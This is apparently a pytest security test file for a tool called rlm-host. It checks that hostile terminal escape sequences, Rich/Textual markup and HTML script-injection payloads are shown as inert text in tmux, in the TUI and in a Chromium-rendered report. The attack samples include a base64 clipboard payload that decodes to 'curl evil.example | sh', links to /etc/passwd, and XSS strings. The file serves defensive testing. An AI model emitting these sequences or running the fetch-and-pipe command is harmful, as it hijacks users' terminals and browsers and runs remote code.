"""The reviewer's screen, attacked: hostile text shown in a real terminal (tmux) and a real browser (Chromium).

Text from documents, file names, cells, sub-call replies, the answer and the query reaches the
reviewer through `audit show`, `audit verify`, `run`, `exec`, error lines, the TUI and the HTML
report. Each attack puts terminal control sequences (OSC title and clipboard writes, CSI clears and
cursor moves that hide lines or fake an answer, C1 controls, bidi overrides) or Rich/Textual markup
into that text and runs the real command in a real tmux pane (its own tmux server). It asserts from
tmux that the attack failed (pane title unchanged, no clipboard buffer, no alternate screen, the
escape shown as visible text, every expected line present) and that the command exited as expected
and the next command in the same pane still works. The positive control proves each check can fail.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import subprocess
import sys
import time
import uuid
from pathlib import Path

import pytest
from helpers import Record

from rlm_host.audit import AuditLog, events
from rlm_host.sanitize import dangerous, escape
from rlm_host.testing import ScriptedLM

pytestmark = pytest.mark.docker
CATEGORY = "reviewer's screen"
BIN = Path(sys.executable).parent
CLIP = base64.b64encode(b"curl evil.example | sh").decode()
ATTACKS = {
    "OSC 0 sets the window title": "\x1b]0;PWNED-TITLE\x07",
    "OSC 2 sets the title, ended by ST": "\x1b]2;PWNED-TITLE2\x1b\\",
    "OSC 52 writes the clipboard": f"\x1b]52;c;{CLIP}\x07",
    "OSC 52 through tmux's DCS passthrough": f"\x1bPtmux;\x1b\x1b]52;c;{CLIP}\x07\x1b\\",
    "OSC 8 hyperlink to a local file": "\x1b]8;;file:///etc/passwd\x1b\\click\x1b]8;;\x1b\\",
    "CSI clears the screen and homes the cursor": "\x1b[2J\x1b[H",
    "CSI erases the scrollback": "\x1b[3J",
    "cursor up and erase line fake an answer event": "\x1b[1A\x1b[2K\r  99 +   0.00s ✔ answer answer=FAKE",
    "carriage return overwrites the line": "\rFAKE-OVERWRITE                         ",
    "backspaces overwrite the line": "\x08" * 40 + "FAKE-BS",
    "SGR conceal hides the text after it": "\x1b[8mCONCEALED",
    "the alternate screen hides everything": "\x1b[?1049h",
    "a device status request types into the shell": "\x1b[6n\x1b[21t",
    "C1 CSI (U+009B) clears the screen": "\x9b2J\x9bH",
    "C1 OSC (U+009D) sets the title": "\x9d0;C1-TITLE\x9c",
    "bidi override reverses the text": "\u202eRLO-REVERSED\u202c \u2066isolate\u2069",
    "line separators split the line": "\u2028\u2029\x85\x0b\x0c",
    "zero-width and tag characters hide text": "\u200b\ufeff\U000e0041\U000e0042",
    "a Rich closing tag": "[/]",
    "a Rich link to a local file": "[link=file:///etc/passwd]x[/link]",
    "Rich style markup": "[bold red on white blink]styled[/]",
    "a Textual click action": "[@click=app.quit]quit[/]",
}
EVERYTHING = "".join(ATTACKS.values()) + " TAIL-MARK"


class Pane:
    """A bash shell in a tmux pane of a private tmux server, with OSC 52 and titles enabled."""

    def __init__(self, env: dict[str, str]) -> None:
        self.server = f"rlmscreen{uuid.uuid4().hex[:8]}"
        self.count = 0
        self.tmux("-f", "/dev/null", "new-session", "-d", "-s", "s", "-x", "200", "-y", "60",
                  "bash --norc --noprofile", env=env)
        self.tmux("set", "-g", "set-clipboard", "on")
        self.tmux("set", "-g", "history-limit", "20000")
        self.run("export PS1='$ '")
        self.before = self.state()

    def tmux(self, *args: str, env: dict[str, str] | None = None, timeout: float = 30) -> str:
        assert shutil.which("tmux"), "tmux is needed: apt-get install tmux (scripts/host-setup.sh test does)"
        proc = subprocess.run(["tmux", "-L", self.server, *args], capture_output=True, text=True,
                              timeout=timeout, env=env)
        assert proc.returncode == 0, proc.stderr
        return proc.stdout

    def run(self, command: str, timeout: float = 240) -> str:
        """Type ``command`` in the pane and wait for it; return the whole screen and history."""
        self.count += 1
        done = f"done{self.count}"
        self.tmux("send-keys", "-t", "s", f"{command}; echo EXIT=$?; tmux -L {self.server} wait-for -S {done}",
                  "Enter")
        self.tmux("wait-for", done, timeout=timeout)
        time.sleep(0.3)
        return self.screen()

    def keys(self, *keys: str) -> None:
        for key in keys:
            self.tmux("send-keys", "-t", "s", key)
            time.sleep(0.15)

    def screen(self, *flags: str) -> str:
        return self.tmux("capture-pane", "-p", "-J", "-S", "-", "-t", "s", *flags)

    def state(self) -> dict[str, str]:
        shown = self.tmux("display", "-p", "-t", "s", "#{pane_title}|#{alternate_on}|#{cursor_flag}")
        return {"pane": shown.strip(), "buffers": self.tmux("list-buffers")}

    def unharmed(self, screen: str, exit_code: int = 0) -> None:
        """The attack changed nothing it should not, and the next command in the pane still works."""
        assert self.state() == self.before, (self.state(), self.before)
        assert f"EXIT={exit_code}" in screen, screen[-3000:]
        assert "\x1b[8m" not in self.screen("-e") and "\x1b]8;" not in self.screen("-e")
        assert "NEXT-OK" in self.run("echo NEXT-OK")
        assert self.state() == self.before

    def close(self) -> None:
        subprocess.run(["tmux", "-L", self.server, "kill-server"], capture_output=True, timeout=30)


@pytest.fixture
def pane(tmp_path: Path):
    env = {**os.environ, "PATH": f"{BIN}:{os.environ['PATH']}", "HOME": os.environ.get("HOME", "/root"),
           "TERM": "xterm-256color"}
    opened = Pane(env)
    try:
        yield opened
    finally:
        opened.close()


def shown_as_text(payload: str) -> str:
    """What the sanitizer must put on the screen for ``payload``: its first dangerous character's escape."""
    first = next((c for c in payload if dangerous(c)), None)
    return escape(first) if first else payload


def hostile_log(folder: Path, payload: str) -> Path:
    """An intact, sealed audit log whose every text field (and one event kind) carries ``payload``."""
    log = AuditLog("screen", "full", directory=folder)
    log.record("run.start", {"query": payload, "runtime": payload, "limits": {"memory_mb": payload}})
    log.record("iteration.start", {"iteration": 1})
    log.record("cell", {"code": payload, "stdout": payload, "stderr": payload, "status": "ok", "duration_ms": 1})
    log.record("subcall", {"model": payload, "response": payload, "prompt_chars": 1, "reply_chars": 1})
    log.record(f"kernel.{payload}", {"reason": payload})
    log.record("answer", {"answer": payload})
    log.record("run.end", {"depth": 1, "answer": payload, "citations": [{"document": payload}], "evidence": [payload]})
    log.seal()
    return log.path


def expect_lines(screen: str, log: Path) -> None:
    """Every event of the log is on the screen: one line per sequence number, none hidden."""
    for event in events(log):
        assert f"{event['seq']:>4} +" in screen, (event["seq"], screen[-3000:])


def test_positive_control_raw_escapes_do_reach_tmux(pane: Pane) -> None:
    """Control: printed raw, the same sequences do change the title and the clipboard (the checks can fail)."""
    pane.run("printf '\\033]2;RAW-TITLE\\007\\033]52;c;%s\\007' aGVsbG8=")
    assert "RAW-TITLE" in pane.state()["pane"] and "hello" in pane.state()["buffers"]


@pytest.mark.parametrize("name", list(ATTACKS))
def test_audit_show_in_a_terminal(name: str, pane: Pane, tmp_path: Path, evidence: Record) -> None:
    """`audit show` of a log whose every field (and an event kind) holds the attack"""
    log = hostile_log(tmp_path, ATTACKS[name])
    screen = pane.run(f"echo MARK-BEFORE; rlm-host audit show {log}")
    assert "MARK-BEFORE" in screen and shown_as_text(ATTACKS[name]) in screen, screen[-3000:]
    expect_lines(screen, log)
    pane.unharmed(screen)
    evidence("attacks", category=CATEGORY, attack=f"audit show: {name}", runtime="host",
             outcome="shown as text; title, clipboard, lines unchanged")


def no_raw_controls(data: bytes) -> None:
    """Bytes for a terminal: UTF-8 with no ESC, no C1 control, no bidi or line separator character."""
    text = data.decode("utf-8")
    bad = [c for c in text if c not in "\n" and dangerous(c)]
    assert not bad and "\x1b" not in text, bad[:10]


def test_audit_show_piped(tmp_path: Path, evidence: Record) -> None:
    """`audit show` and `audit show --json` piped to a file or `cat -v`: no raw control byte in the output"""
    log = hostile_log(tmp_path, EVERYTHING)
    text = subprocess.run([BIN / "rlm-host", "audit", "show", str(log)], capture_output=True, timeout=60)
    assert text.returncode == 0 and b"TAIL-MARK" in text.stdout
    no_raw_controls(text.stdout)
    as_json = subprocess.run([BIN / "rlm-host", "audit", "show", "--json", str(log)], capture_output=True, timeout=60)
    no_raw_controls(as_json.stdout)
    assert [json.loads(line) for line in as_json.stdout.split(b"\n")[:-1]] == events(log)
    evidence("attacks", category=CATEGORY, attack="audit show piped (text and --json)", runtime="host",
             outcome="no raw ESC/C1/bidi byte; JSON parses to the same events")


def test_verify_and_error_lines(pane: Pane, tmp_path: Path, evidence: Record) -> None:
    """Error lines quoting a hostile file name, policy name, option and command"""
    folder = tmp_path / "names"
    folder.mkdir()
    hostile = "".join(ATTACKS[n] for n in ("OSC 0 sets the window title", "OSC 52 writes the clipboard",
                                          "CSI clears the screen and homes the cursor",
                                          "C1 CSI (U+009B) clears the screen",
                                          "bidi override reverses the text"))
    (folder / f"x{hostile}.jsonl").mkdir()  # not a file: "... is a directory, not an audit log", exit 3
    (tmp_path / "arg").write_text(hostile + "[bold]")
    screen = pane.run(f"rlm-host audit show {folder}/*")
    assert "is a directory, not an audit log" in screen and "\\x1b]0;PWNED-TITLE" in screen
    pane.unharmed(screen, exit_code=3)
    arg = f'"$(cat {tmp_path}/arg)"'
    for command, code in ((f"exec - --policy {arg}", 1), (f"report {arg} -o {tmp_path}/r.html", 4), (arg, 64),
                          (f"--{arg}", 64), (f"audit verify {arg}", 4)):
        screen = pane.run(f"rlm-host {command} </dev/null")
        assert "rlm-host: error:" in screen and "\\x1b]0;PWNED" in screen, (command, screen[-2000:])
        pane.unharmed(screen, exit_code=code)
    evidence("attacks", category=CATEGORY, attack="error lines quoting hostile names, options and commands",
             runtime="host", outcome="one visible line; title, clipboard unchanged")


def test_tui_replay_in_a_terminal(pane: Pane, tmp_path: Path, evidence: Record) -> None:
    """`tui --replay` of a log whose every field holds every attack, markup and click actions included"""
    log = hostile_log(tmp_path, EVERYTHING)
    pane.tmux("send-keys", "-t", "s", f"rlm-host tui --replay {log}; echo EXIT=$?", "Enter")
    time.sleep(4)
    pane.keys(*["n"] * 10, "Home", "n", "n", "f")  # to the cell, its code and output in full
    time.sleep(1)
    screen = pane.tmux("capture-pane", "-p", "-t", "s")
    assert "The paper" in screen and "[@click=app.quit]quit[/]" in screen and "\\x1b]0;PWNED" in screen, screen
    assert "step 3/8" in screen and "TAIL-MARK" in screen, screen
    assert pane.state()["buffers"] == "" and "PWNED" not in pane.state()["pane"]
    pane.keys("q")
    time.sleep(2)
    screen = pane.screen()
    assert "EXIT=0" in screen, screen[-2000:]
    pane.unharmed(screen)
    evidence("attacks", category=CATEGORY, attack="tui --replay with escapes, markup and click actions",
             runtime="host", outcome="shown as text; no action ran; title, clipboard unchanged; exit 0")


def test_tui_killed_without_a_terminal(tmp_path: Path, evidence: Record) -> None:
    """`tui --replay` with no terminal, killed by SIGTERM and SIGHUP: no traceback"""
    log = hostile_log(tmp_path, EVERYTHING)
    for sig, delay in (("TERM", 3), ("HUP", 3), ("TERM", 0.5), ("TERM", 1.5)):  # running, and still starting
        proc = subprocess.Popen([BIN / "rlm-host", "tui", "--replay", str(log)], stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, stderr=subprocess.PIPE)
        try:
            time.sleep(delay)
            proc.send_signal(getattr(__import__("signal"), f"SIG{sig}"))
            _out, err = proc.communicate(timeout=30)
        finally:
            proc.kill()  # only if it hung: the assertion below then says so
            proc.communicate()
        assert b"Traceback" not in err and proc.returncode != 0, err[-2000:]
    evidence("attacks", category=CATEGORY, attack="tui with no terminal, killed", runtime="host",
             outcome="no traceback, non-zero exit")


def hostile_folder(tmp_path: Path) -> Path:
    """A document folder: a document full of attacks, and skipped files whose paths are Rich markup."""
    folder = tmp_path / "docs"
    (folder / "a[link=file:" / "etc" / "passwd]x[" / "link]").mkdir(parents=True)
    (folder / "a[link=file:" / "etc" / "passwd]x[" / "link]" / "skip.bin").write_bytes(b"\x00\x01" * 50)
    (folder / "b[").mkdir()
    (folder / "b[" / "]closing.bin").write_bytes(b"\x00\x02" * 50)
    (folder / f"c{ATTACKS['OSC 0 sets the window title']}.bin").write_bytes(b"\x00\x03" * 50)
    (folder / "doc.txt").write_text(f"The fee is EUR 10. {EVERYTHING}\n", encoding="utf-8")
    return folder


def test_exec_in_a_terminal(pane: Pane, tmp_path: Path, evidence: Record, docker_ready: str) -> None:
    """`exec` of a cell printing every attack, with document paths that are Rich markup"""
    cell = tmp_path / "cell.py"
    cell.write_text(f"import sys\nprint(context)\nprint({EVERYTHING!r})\nsys.stderr.write({EVERYTHING!r})\n")
    folder = hostile_folder(tmp_path)
    screen = pane.run(f"rlm-host exec {cell} --context {folder} > {tmp_path}/out.json")
    pane.unharmed(screen)
    out = (tmp_path / "out.json").read_bytes()
    no_raw_controls(out)
    result = json.loads(out)
    assert result["status"] == "ok" and EVERYTHING in result["stdout"]
    screen = pane.run(f"rlm-host exec {cell} --context {folder}")
    assert "skipped" in screen and "passwd]x[/link]" in screen and '"status": "ok"' in screen, screen[-3000:]
    pane.unharmed(screen)
    evidence("attacks", category=CATEGORY, attack="exec output and skipped paths with escapes and markup",
             runtime="runc", outcome="valid JSON, escapes as \\uXXXX; paths literal; no MarkupError")


def test_run_in_a_terminal(pane: Pane, tmp_path: Path, evidence: Record, docker_ready: str) -> None:
    """`run` whose query, document, file names, cells, sub-call replies, answer and citations carry every attack"""
    folder = hostile_folder(tmp_path)
    (tmp_path / "query").write_text(f"What is the fee? {EVERYTHING}")
    with ScriptedLM() as lm:
        root = [f"```python\nprint({EVERYTHING!r})\nhits = search('fee')\nprint(llm_query('fee?', context[:200]))\n```",
                f"```python\nanswer({('ANSWER ' + EVERYTHING)!r}, citations=[hits[0]])\n```"]
        lm.script("root", root)
        lm.rule("sub", lambda messages: f"EUR 10 {EVERYTHING}")
        env = f"OPENAI_API_KEY=test RLM_HOST_AUDIT_DIR={tmp_path}/audit"
        base = (f"rlm-host run --query \"$(cat {tmp_path}/query)\" --context {folder} --base-url {lm.base_url} "
                "--model root --sub-model sub")
        screen = pane.run(f"echo MARK-BEFORE; {env} {base}")
        assert "MARK-BEFORE" in screen and "ANSWER" in screen and "Citations" in screen, screen[-3000:]
        assert "Usage" in screen and "audit log:" in screen and "\\x1b]0;PWNED" in screen
        assert "[@click=app.quit]quit[/]" in screen and "skipped" in screen
        pane.unharmed(screen)
        lm.script("root", root)
        piped = subprocess.run(f"{env} {base} --json", shell=True, capture_output=True, timeout=240,
                               env={**os.environ, "PATH": f"{BIN}:{os.environ['PATH']}"})
    assert piped.returncode == 0, piped.stderr[-2000:]
    no_raw_controls(piped.stdout)
    no_raw_controls(piped.stderr)
    assert json.loads(piped.stdout)["answer"] == "ANSWER " + EVERYTHING
    evidence("attacks", category=CATEGORY, attack="run: query, document, names, cells, sub-calls, answer, quotes",
             runtime="runc", outcome="shown as text; title, clipboard, lines unchanged; --json clean")


SCRIPTS = ["<script>document.title='PWNED'</script>", "<img src=x onerror=\"document.body.dataset.pwned='1'\">",
           "</pre><script>document.body.dataset.pwned='2'</script>", "' onmouseover='alert(1)' x='",
           "<svg onload=\"document.body.dataset.pwned='3'\"></svg>",
           "<iframe src='javascript:parent.document.title=1'>",
           "]]><!--", "</style><script>document.body.dataset.pwned='4'</script>", "\u202eRLO", "\x1b]0;T\x07"]


def test_report_in_chromium(tmp_path: Path, evidence: Record) -> None:
    """The HTML report of a log full of script, markup and control characters, loaded in headless Chromium"""
    binary = shutil.which("chromium")
    assert binary, "Debian's chromium is needed for this test: apt-get install chromium"
    log = hostile_log(tmp_path, "".join(SCRIPTS) + EVERYTHING)
    page = tmp_path / "report.html"
    made = subprocess.run([BIN / "rlm-host", "report", str(log), "-o", str(page)], capture_output=True, timeout=60)
    assert made.returncode == 0, made.stderr
    dom = subprocess.run([binary, "--headless", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                          "--disable-component-update", "--disable-sync", "--no-first-run",
                          f"--user-data-dir={tmp_path / 'profile'}", "--dump-dom", page.as_uri()],
                         capture_output=True, text=True, timeout=120)
    assert dom.returncode == 0, dom.stderr[-2000:]
    assert "<title>rlm-host run screen</title>" in dom.stdout and "data-pwned" not in dom.stdout
    assert "intact and sealed" in dom.stdout and 'data-iterations="1"' in dom.stdout  # the page's own script ran
    assert "&lt;script&gt;document.title" in dom.stdout and "&lt;img src=x onerror" in dom.stdout
    assert "\\u202eRLO" in dom.stdout and "\u202e" not in dom.stdout and "\x1b" not in dom.stdout
    evidence("attacks", category=CATEGORY, attack="HTML report with scripts, handlers and controls (Chromium)",
             runtime="host", outcome="no script from the log ran; shown as text")
